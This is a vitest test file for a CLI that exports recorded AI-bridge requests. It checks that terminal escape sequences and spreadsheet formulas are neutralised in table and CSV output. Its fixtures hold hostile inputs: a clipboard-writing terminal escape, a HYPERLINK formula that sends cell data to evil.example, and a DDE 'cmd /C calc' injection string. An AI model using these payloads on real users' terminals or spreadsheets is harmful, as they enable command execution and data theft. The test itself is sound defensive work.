/**
 * Recorded text is chosen by whoever sent the request: a member picks the model name, the
 * session id header and the prompt. An auditor exporting it with the CLI must not have that
 * text drive their terminal (escape sequences: clipboard writes, hidden lines, a fake prompt)
 * or their spreadsheet (a CSV cell starting with `=` runs as a formula).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestBridge, type TestBridge } from '../helpers/bridge.ts';
import { type TestStore, testEmbeddedStore } from '../helpers/db.ts';
import { runCli } from '../helpers/process.ts';
import { interceptionRecord, promptRecord } from '../helpers/records.ts';

const ESCAPES = '\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2J\x1b[1A\r\x9b31m';
const MODEL = `gpt-5${ESCAPES}`;
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")';

let store: TestStore;
let bridge: TestBridge;
let env: NodeJS.ProcessEnv;

beforeAll(async () => {
  store = testEmbeddedStore();
  bridge = await startTestBridge(store);
  const member = await bridge.user('mallory');
  const auditor = await bridge.user('audrey', 'auditor');
  const doc = interceptionRecord({
    initiator_id: member.id,
    model: MODEL,
    client_session_id: '@SUM(1+1)*cmd|" /C calc"!A0',
    cost_usd: 0.5,
  });
  await store.records.write([
    { kind: 'interception', doc },
    { kind: 'user_prompt', doc: promptRecord(doc, FORMULA) },
  ]);
  env = { AIBRIDGE_URL: bridge.url, AIBRIDGE_SESSION_TOKEN: auditor.token };
});
afterAll(async () => {
  await bridge.close();
  await store.close();
});

/** C0 and C1 control characters other than the line ends a format uses. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding them is the point
const CONTROL = /[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f]/;

describe('the CLI printing recorded text', () => {
  it('shows control characters in tables as visible escapes, never raw', async () => {
    for (const args of [
      ['interceptions', 'list', '--format', 'table'],
      ['usage', '--group-by', 'model,client'],
    ]) {
      const result = await runCli(args, env);
      expect(result.code, result.stderr).toBe(0);
      expect(result.stdout).toContain('gpt-5');
      expect(result.stdout.replaceAll('\n', ''), args.join(' ')).not.toMatch(CONTROL);
      expect(result.stdout).not.toContain('\r');
      expect(result.stdout).toContain('\\x1b]52;c;');
    }
  });

  it('writes CSV a spreadsheet will not run: formula-like cells are quoted, control characters escaped', async () => {
    for (const args of [
      ['interceptions', 'list', '--format', 'csv'],
      ['usage', '--group-by', 'model', '-o', 'csv'],
    ]) {
      const result = await runCli(args, env);
      expect(result.code, result.stderr).toBe(0);
      const lines = result.stdout.split('\r\n');
      for (const line of lines) expect(line, args.join(' ')).not.toMatch(CONTROL);
      for (const cell of lines.flatMap((l) => l.split(','))) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@]/);
    }
    const list = await runCli(['interceptions', 'list', '--format', 'csv'], env);
    expect(list.stdout).toContain(`"'${FORMULA.replaceAll('"', '""')}"`);
    expect(list.stdout).toContain(`'@SUM(1+1)*cmd|`);
  });

  it('keeps JSON exact: the text as recorded, escaped by JSON itself', async () => {
    const result = await runCli(['interceptions', 'list'], env);
    const [row] = JSON.parse(result.stdout) as Array<{ model: string; user_prompts: Array<{ prompt: string }> }>;
    expect(row?.model).toBe(MODEL);
    expect(row?.user_prompts[0]?.prompt).toBe(FORMULA);
  });
});
